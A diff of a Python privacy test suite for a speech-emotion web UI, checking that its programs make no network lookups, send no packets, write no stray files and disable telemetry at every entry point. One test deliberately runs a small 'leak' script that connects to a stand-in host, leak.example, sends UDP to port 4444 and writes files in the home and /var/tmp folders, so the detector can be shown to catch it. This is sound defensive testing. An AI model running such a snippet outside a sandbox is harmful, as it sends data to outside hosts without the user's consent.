@@ -1,4 +1,4 @@
-"""The program tells nobody anything: no look-up, no packet, no file besides its own, seen from outside the process."""
+"""The program contacts no other machine and writes only its own files, observed from outside the process."""
 
 import json
 import os
@@ -19,15 +19,15 @@ from tests.support.example import EXAMPLE_EMOTION
 from tests.support.training_corpus import write_corpus
 from webui.privacy import SWITCHES
 
-OWN = ("outputs/", "report/", "trained/", "said/")  # where the programs may write
+OWN = ("outputs/", "report/", "trained/", "printed/")  # folders that the programs may write to
 LIMIT_S = 250
-QUIET_S = 12.0  # that onnxruntime would wait at most between its first session and its first report
-LEFT_ALONE = "somebody's own file"
+WAIT_S = 12.0  # the longest time between onnxruntime's first session and its first telemetry report
+UNCHANGED = "a user's file"
 TRAIN = """
 import sys
 from dataclasses import replace
 from pathlib import Path
-from tests.unit.training.test_run import OPTIONS, SMALL
+from tests.support.training_corpus import OPTIONS, SMALL
 from training.cache import build_cache
 from training.data import read_manifest
 from training.tasks import member_pair, train_members
@@ -43,11 +43,11 @@ if __name__ == "__main__":
     )
     train_members(pair[:1], processes=2)
 """
-GIVE_AWAY = """
+LEAK = """
 import socket
 from pathlib import Path
 try:
-    socket.create_connection(("somebody.example", 443), 5)
+    socket.create_connection(("leak.example", 443), 5)
 except OSError:
     pass
 socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("203.0.113.9", 4444))
@@ -57,7 +57,7 @@ for place in (Path.home(), Path("/var/tmp")):
 
 
 def environment(folder: Path) -> dict[str, str]:
-    """What a user's terminal has, and nothing that would keep a library quiet by itself (CI=..., for instance)."""
+    """Environment of a user's terminal, without variables that disable telemetry by themselves, such as CI."""
     kept = {name: os.environ[name] for name in ("PATH", "LD_LIBRARY_PATH") if name in os.environ}
     return kept | {
         "HOME": str(folder / "home"),
@@ -71,7 +71,7 @@ def environment(folder: Path) -> dict[str, str]:
 
 
 def run_programs(folder: Path) -> None:
-    """What the namespace runs: a server from beginning to end, and meanwhile everything else."""
+    """Runs in the namespace: a server, and the other programs at the same time."""
     project, data = folder / "project", folder / "data"
     example = project / "examples" / "example_synthetic.wav"
     labels = folder / "labels.csv"
@@ -83,25 +83,25 @@ def run_programs(folder: Path) -> None:
     }
 
     def run(name: str) -> None:
-        with (folder / "said" / f"{name}.txt").open("wb") as said:
+        with (folder / "printed" / f"{name}.txt").open("wb") as printed:
             subprocess.run(
-                [sys.executable, *map(str, programs[name])], cwd=project, stdin=subprocess.DEVNULL, stdout=said,
-                stderr=said, env=environment(folder) | {"PYTHONPATH": str(project)}, timeout=LIMIT_S, check=True,
+                [sys.executable, *map(str, programs[name])], cwd=project, stdin=subprocess.DEVNULL, stdout=printed,
+                stderr=printed, env=environment(folder) | {"PYTHONPATH": str(project)}, timeout=LIMIT_S, check=True,
             )  # fmt: skip
 
-    with (folder / "said" / "serve.txt").open("wb") as said:
+    with (folder / "printed" / "serve.txt").open("wb") as printed:
         server = subprocess.Popen(
             [sys.executable, "app.py", "serve"], cwd=project, env=environment(folder), stdout=subprocess.PIPE,
-            stderr=said, text=True,
+            stderr=printed, text=True,
         )  # fmt: skip
         try:
             assert server.stdout is not None
             url = server.stdout.readline().split()[-1]
             use(url, example)
-            heard = time.monotonic()
+            used_at = time.monotonic()
             with ThreadPoolExecutor(2) as pool:
                 list(pool.map(run, programs))
-            time.sleep(max(0.0, QUIET_S - (time.monotonic() - heard)))
+            time.sleep(max(0.0, WAIT_S - (time.monotonic() - used_at)))
         finally:
             server.send_signal(signal.SIGTERM)
             server.communicate(timeout=30)
@@ -109,7 +109,7 @@ def run_programs(folder: Path) -> None:
 
 
 def use(url: str, example: Path) -> None:
-    """Opens the page, has it hear a recording, and asks the API for segments."""
+    """Opens the page, recognizes a recording there, and requests segments from the API."""
     with httpx.Client(base_url=url, timeout=LIMIT_S) as client:
         assert client.get("/").status_code == 200
         (sent,) = client.post("/gradio_api/upload", files={"files": ("a.wav", example.read_bytes())}).json()
@@ -122,17 +122,17 @@ def use(url: str, example: Path) -> None:
         assert answer.json()["segments"]
 
 
-def give_away(folder: Path) -> None:
-    """The opposite, to see that it is seen."""
-    subprocess.run([sys.executable, "-c", GIVE_AWAY], env=environment(folder), check=True)
+def leak(folder: Path) -> None:
+    """Does what must be detected."""
+    subprocess.run([sys.executable, "-c", LEAK], env=environment(folder), check=True)
 
 
 @pytest.fixture
 def folder(tmp_path: Path) -> Path:
-    """A project like a fresh clone, a home and a temporary folder, all of which are looked through afterwards."""
+    """A project like a fresh clone, a home and a temporary folder, which are examined afterwards."""
     if reason := why_not():
         pytest.skip(reason)
-    for name in ("home", "tmp", "hidden", "said"):
+    for name in ("home", "tmp", "hidden", "printed"):
         (tmp_path / name).mkdir()
     project = tmp_path / "project"
     project.mkdir()
@@ -147,12 +147,12 @@ def written(folder: Path) -> set[str]:
     return {path.relative_to(folder).as_posix() for path in folder.rglob("*") if not path.is_dir() or path.is_symlink()}
 
 
-def test_nobody_hears_of_it(folder: Path) -> None:
+def test_no_lookups_no_packets_no_other_files(folder: Path) -> None:
     write_corpus(folder / "data", takes=1)
     (folder / "train.py").write_text(TRAIN, "utf-8")
     example = folder / "project" / "examples" / "example_synthetic.wav"
     (folder / "labels.csv").write_text(f"path,label\n{example},{EXAMPLE_EMOTION}\n", "utf-8")
-    (folder / "mine.txt").write_text(LEFT_ALONE)
+    (folder / "mine.txt").write_text(UNCHANGED)
     (folder / "tmp" / ".ses").symlink_to(folder / "mine.txt")  # what onnxruntime would overwrite
     before = written(folder)
     seen = run_closed(folder, f"{__name__}:run_programs")
@@ -161,16 +161,16 @@ def test_nobody_hears_of_it(folder: Path) -> None:
         "names looked up": seen.names,
         "packets to other machines": seen.addresses,
         "files elsewhere": {name for name in new if not name.startswith(OWN)},
-        "a file changed through a link": {(folder / "mine.txt").read_text()} - {LEFT_ALONE},
+        "a file changed through a link": {(folder / "mine.txt").read_text()} - {UNCHANGED},
     }
     assert not any(found.values()), found
     for name in ("outputs", "report", "trained"):
         assert any(path.startswith(f"{name}/") for path in new), name
 
 
-def test_it_would_be_seen(folder: Path) -> None:
-    seen = run_closed(folder, f"{__name__}:give_away")
-    assert seen.names == {"somebody.example"}
+def test_lookups_packets_and_files_are_detected(folder: Path) -> None:
+    seen = run_closed(folder, f"{__name__}:leak")
+    assert seen.names == {"leak.example"}
     assert f"tcp {ELSEWHERE} port 443" in seen.addresses
     assert "udp 203.0.113.9 port 4444" in seen.addresses
     new = {name for name in written(folder) if name.endswith("left.txt")}
@@ -181,7 +181,7 @@ def test_it_would_be_seen(folder: Path) -> None:
     "entry",
     ["webui.cli", "webui.engine.hub.client_process", "training", "benchmarks"],
 )
-def test_every_way_in_switches_it_off_before_any_library(entry: str) -> None:
+def test_every_entry_point_disables_telemetry_before_importing_libraries(entry: str) -> None:
     code = (
         "import json, os, sys\n"
         "from importlib import import_module\n"
@@ -193,9 +193,9 @@ def test_every_way_in_switches_it_off_before_any_library(entry: str) -> None:
         f"import_module({entry!r})\n"
         f"print(json.dumps([early, {{name: os.environ.get(name) for name in {list(SWITCHES)!r}}}]))\n"
     )
-    told_otherwise = dict.fromkeys(SWITCHES, "True") | {"ORT_DISABLE_TELEMETRY": "0", "DO_NOT_TRACK": ""}
+    enabled = dict.fromkeys(SWITCHES, "True") | {"ORT_DISABLE_TELEMETRY": "0", "DO_NOT_TRACK": ""}
     done = subprocess.run(
-        [sys.executable, "-c", code], cwd=ROOT, env=os.environ | told_otherwise, capture_output=True, text=True,
+        [sys.executable, "-c", code], cwd=ROOT, env=os.environ | enabled, capture_output=True, text=True,
         check=True,
     )  # fmt: skip
     assert json.loads(done.stdout) == [[], SWITCHES]
